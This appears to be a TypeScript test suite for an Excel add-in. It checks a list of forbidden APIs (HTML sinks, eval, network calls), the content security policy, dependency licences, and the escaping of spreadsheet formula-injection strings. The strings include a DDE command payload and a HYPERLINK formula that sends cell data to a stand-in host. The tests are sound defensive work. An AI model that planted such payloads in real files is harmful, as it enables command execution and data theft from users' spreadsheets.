// What the threat model promises, held by tests: no markup from text, no code from text, no outside address, no licence that binds
// us, text from outside never a formula. Each detector is itself shown to catch a breach.
import { readdirSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import { message } from "../../src/domain/message";
import { needsTextMark, startsLikeFormula } from "../../src/domain/sheet/literal";
import { formatCsv } from "../../src/file/csv";
import { readXlsx } from "../../src/file/readXlsx";
import { writeXlsx } from "../../src/file/writeXlsx";

const root = path.join(__dirname, "../..");
/** Rooms whose code Excel loads. */
const SHIPPED = ["app", "commands", "domain", "excel", "i18n", "taskpane", "worker"];

function filesBelow(folder: string): string[] {
  return readdirSync(folder).flatMap((name) => {
    const file = path.join(folder, name);
    return statSync(file).isDirectory() ? filesBelow(file) : /\.tsx?$/.test(name) ? [file] : [];
  });
}

const FORBIDDEN: readonly (readonly [RegExp, string])[] = [
  [/\b(?:inner|outer)HTML\b/, "makes markup of text"],
  [/\bdangerouslySetInnerHTML\b/, "makes markup of text"],
  [/\binsertAdjacentHTML\b/, "makes markup of text"],
  [/\bdocument\.write(?:ln)?\b/, "makes markup of text"],
  [/\beval\(|\bnew Function\(/, "makes code of text"],
  [/\b(?:XMLHttpRequest|sendBeacon|WebSocket|EventSource|RTCPeerConnection)\b/, "asks the network"],
  [/\b(?:customXmlParts|document\.settings)\b/, "keeps something in the document's settings"],
  [/\bworkbook\.settings\b/, "keeps something in the document's settings"],
];

const breaches = (file: string, text: string): string[] => {
  const code = text.replace(/\/\*[^]*?\*\/|^\s*\/\/.*$/gm, "");
  return FORBIDDEN.filter(([pattern]) => pattern.test(code)).map(([, what]) => `${file} ${what}`);
};

test("no shipped file makes markup or code of text, asks the network, or keeps settings in the document", () => {
  const files = SHIPPED.flatMap((room) => filesBelow(path.join(root, "src", room)));
  expect(files.length).toBeGreaterThan(150);
  expect(files.flatMap((file) => breaches(path.relative(root, file), readFileSync(file, "utf8")))).toEqual(
    [],
  );
});

test.each([
  "element.innerHTML = text;",
  "<p dangerouslySetInnerHTML={{ __html: text }} />",
  "document.write(text);",
  "eval(text);",
  "navigator.sendBeacon(url);",
  "context.workbook.settings.add('who', name);",
])("the detector catches: %s", (line) => {
  expect(breaches("planted.ts", line)).toHaveLength(1);
});

describe("the content security policy", () => {
  const { contentSecurityPolicy } = require("../../scripts/lib/securityPolicy.cjs") as {
    contentSecurityPolicy(source: "cdn" | "local"): string;
  };
  const directives = (source: "cdn" | "local"): Map<string, string> =>
    new Map(
      contentSecurityPolicy(source)
        .split("; ")
        .map((part) => [part.slice(0, part.indexOf(" ")), part.slice(part.indexOf(" ") + 1)]),
    );

  test.each(["cdn", "local"] as const)("forbids every connection and every inline script (%s)", (source) => {
    const policy = directives(source);
    expect(policy.get("default-src")).toBe("'none'");
    expect(policy.get("connect-src")).toBe("'none'");
    expect(policy.get("script-src")).not.toMatch(/unsafe|\*|data:|blob:/);
    expect(policy.get("worker-src")).toBe("'self'");
    expect(policy.get("object-src")).toBe("'none'");
    expect(policy.get("form-action")).toBe("'none'");
  });

  test("names Microsoft's server for office.js only, and none in a closed network", () => {
    expect(contentSecurityPolicy("cdn").match(/https:[^\s;]+/g)).toEqual([
      "https://appsforoffice.microsoft.com",
    ]);
    expect(contentSecurityPolicy("local")).not.toMatch(/https?:/);
  });

  test.each(["src/taskpane/taskpane.html", "src/commands/commands.html"])(
    "stands in %s, which has no inline script",
    (page) => {
      const html = readFileSync(path.join(root, page), "utf8");
      expect(html).toMatch(/http-equiv="Content-Security-Policy"/);
      expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
      expect(html).not.toMatch(/\son\w+=/);
    },
  );
});

describe("licences", () => {
  /** Licences that ask for no more than their text and their names; for tools that are not shipped, weak copyleft as well. */
  const SHIPPED_MAY = [
    "MIT",
    "ISC",
    "0BSD",
    "BSD-2-Clause",
    "BSD-3-Clause",
    "Apache-2.0",
    "Zlib",
    "MIT-0",
    "CC0-1.0",
  ];
  const TOOLS_MAY = [
    ...SHIPPED_MAY,
    ...["BlueOak-1.0.0", "MPL-2.0", "Python-2.0", "CC-BY-4.0", "LGPL-2.1+", "Public Domain"],
  ];
  interface Package {
    readonly license?: unknown;
    readonly dev?: boolean;
    readonly optional?: boolean;
    readonly peer?: boolean;
    readonly link?: boolean;
  }
  const { packages } = JSON.parse(readFileSync(path.join(root, "package-lock.json"), "utf8")) as {
    packages: Record<string, Package>;
  };

  /** The licence by the lock file or, where that has none, by the installed package itself; undefined when it is not installed. */
  const licenceOf = (place: string, { license }: Package): string | undefined => {
    const text = (value: unknown): string =>
      Array.isArray(value)
        ? value.map(text).join(" OR ")
        : typeof value === "object" && value !== null
          ? text((value as { type?: unknown }).type)
          : String(value);
    if (license !== undefined) return text(license);
    try {
      const own = JSON.parse(readFileSync(path.join(root, place, "package.json"), "utf8")) as Record<
        string,
        unknown
      >;
      return own["license"] === undefined && own["licenses"] === undefined
        ? "none"
        : text(own["license"] ?? own["licenses"]);
    } catch {
      return undefined;
    }
  };
  /** One of the licences that a package offers must be allowed; all of those that it combines. */
  const isAllowed = (licence: string, allowed: readonly string[]): boolean =>
    licence
      .replace(/^\(|\)$/g, "")
      .split(" OR ")
      .some((offer) =>
        offer.split(" AND ").every((part) => allowed.includes(part.replace(/[()]/g, "").trim())),
      );

  /** Looked at by hand: what the field of the package does not say in a name. */
  const BY_HAND: Readonly<Record<string, string>> = {
    "node_modules/@microsoft/office-js":
      "Microsoft's own terms for office.js: to be used and handed out with add-ins",
  };

  /**
   * It names no licence and comes along with the grid of the stand-in. Nothing of ours may name it, so that nothing of it is handed
   * out. The packages of `@univerjs-pro` (their maker's own terms) are not even installed.
   */
  const WITHOUT_LICENCE = /^node_modules\/@univerjs\/telemetry$/;

  test("no commercial package is installed", () => {
    expect(Object.keys(packages).filter((place) => place.includes("@univerjs-pro"))).toEqual([]);
  });

  test("packages that name no licence are named nowhere in our sources", () => {
    const files = ["src", "scripts", "bench"].flatMap((folder) => filesBelow(path.join(root, folder)));
    const naming = files.filter((file) =>
      /["'](@univerjs-pro\/|@univerjs\/telemetry)/.test(readFileSync(file, "utf8")),
    );
    expect(naming).toEqual([]);
  });

  test("of all packages of the lock file are on the list, those that are shipped on the shorter one", () => {
    const wrong: string[] = [];
    let looked = 0;
    for (const [place, entry] of Object.entries(packages)) {
      if (place === "" || entry.link || BY_HAND[place] !== undefined) continue;
      if (entry.dev && WITHOUT_LICENCE.test(place)) continue;
      const licence = licenceOf(place, entry);
      if (licence === undefined) continue;
      looked += 1;
      if (!isAllowed(licence, entry.dev ? TOOLS_MAY : SHIPPED_MAY)) wrong.push(`${place}: ${licence}`);
    }
    process.stdout.write(`Licences: ${looked} of ${Object.keys(packages).length - 1} packages looked at.\n`);
    expect(looked).toBeGreaterThan(900);
    expect(wrong).toEqual([]);
  });

  test("a licence that binds us is caught", () => {
    for (const licence of ["GPL-3.0", "AGPL-3.0-only", "none", "(MIT AND GPL-2.0)", "LGPL-2.1+"])
      expect(isAllowed(licence, SHIPPED_MAY)).toBe(false);
    for (const licence of ["(MIT OR GPL-3.0-or-later)", "(MIT AND Zlib)", "Apache-2.0"])
      expect(isAllowed(licence, SHIPPED_MAY)).toBe(true);
  });
});

describe("text from outside that looks like a formula", () => {
  /** Each way to begin, and each thing that would then be done. */
  const STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", "=\t"];
  const ENDS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org?"&A1,"open")',
    "SUM(A1:A9)",
    "IMPORTXML(A1)",
  ];
  const DANGEROUS = STARTS.flatMap((start) => ENDS.map((end) => `${start}${end}`));

  test("is told as such, all of it", () => {
    expect(DANGEROUS.length).toBe(70);
    expect(DANGEROUS.filter((text) => !startsLikeFormula(text) || !needsTextMark(text))).toEqual([]);
  });

  test("goes into CSV behind an apostrophe, in a cell of its own", () => {
    const text = formatCsv(DANGEROUS.map((value) => [value]));
    for (const value of DANGEROUS) {
      const inCell = `'${value}`.replace(/"/g, '""');
      expect(text).toContain(/[",;\r\n\t]/.test(value) ? `"${inCell}"` : inCell);
    }
  });

  test("goes into .xlsx as text and comes back as the same text, never as a formula", async () => {
    const { bytes } = await writeXlsx({
      title: message("usecase.writeCell"),
      preview: [],
      ops: [
        { kind: "add-sheet", sheet: "Data" },
        { kind: "write", sheet: "Data", top: 0, left: 0, values: DANGEROUS.map((value) => [value]) },
      ],
    });
    const read = readXlsx(bytes);
    if (!read.ok) throw new Error("The file that was written cannot be read.");
    const [sheet] = read.value.sheets;
    expect(sheet?.formulas.size).toBe(0);
    const plain = (text: unknown): string => String(text).replace(/\r\n?/g, "\n");
    expect(sheet?.rows.map((row) => plain(row?.[0]))).toEqual(DANGEROUS.map(plain));
  });
});
